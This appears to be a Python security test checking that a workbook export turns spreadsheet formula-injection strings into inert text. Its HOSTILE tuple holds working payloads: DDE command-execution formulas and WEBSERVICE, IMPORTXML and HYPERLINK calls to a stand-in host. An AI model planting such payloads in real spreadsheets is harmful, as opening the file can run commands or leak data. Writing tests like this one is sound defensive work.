"""Nothing that an officer typed, and nothing in a file's name, comes back from a marked workbook as a formula."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
from helpers.assurance import record
from helpers.council import Council
from helpers.files import csv_file

from pmf.exports.marked_workbook import write_marked
from pmf.intake.formula_guard import unguarded
from pmf.intake.marks import SHEET

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}", "=-9",
)  # fmt: skip
HEADINGS = ("Indicator code", "Period", "Value", "Commentary", "Place")
_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def test_no_live_formula_comes_out_of_a_marked_workbook(council: Council) -> None:
    live = changed = 0
    for text in HOSTILE:
        content = csv_file(HEADINGS, (text, text, text, text, text), ("REP02", "2025/26 Q3", "-9", text, ""))
        examined = council.look(content, f"{text}.csv")
        assert examined.grid is not None
        marked = write_marked(examined.grid, examined.findings, file_name=f"{text}.csv", kind="performance")
        live += _live(marked)
        page = openpyxl.load_workbook(io.BytesIO(marked))["performance"]
        changed += page["D3"].value != unguarded(text.strip()) or page["C3"].value != -9
        assert page["D3"].quotePrefix or text.strip()[:1] not in "=+-@"
    record("export_injection_marked", strings=len(HOSTILE), live_formulas=live, changed=changed)
    assert (len(HOSTILE), live, changed) == (17, 0, 0)


def _live(content: bytes) -> int:
    """How many formulas, external links or names the package holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    found = sum(
        len(_FORMULA.findall(body)) for name, body in parts.items() if name.startswith("xl/worksheets/")
    )
    found += sum(b'TargetMode="External"' in body for body in parts.values())
    found += sum("externalLink" in name or "vbaProject" in name for name in parts)
    book = openpyxl.load_workbook(io.BytesIO(content))
    found += sum(
        cell.data_type == "f" for page in book.worksheets for row in page.iter_rows() for cell in row
    )
    assert book.sheetnames[0] == SHEET
    return found + len(list(book.defined_names))
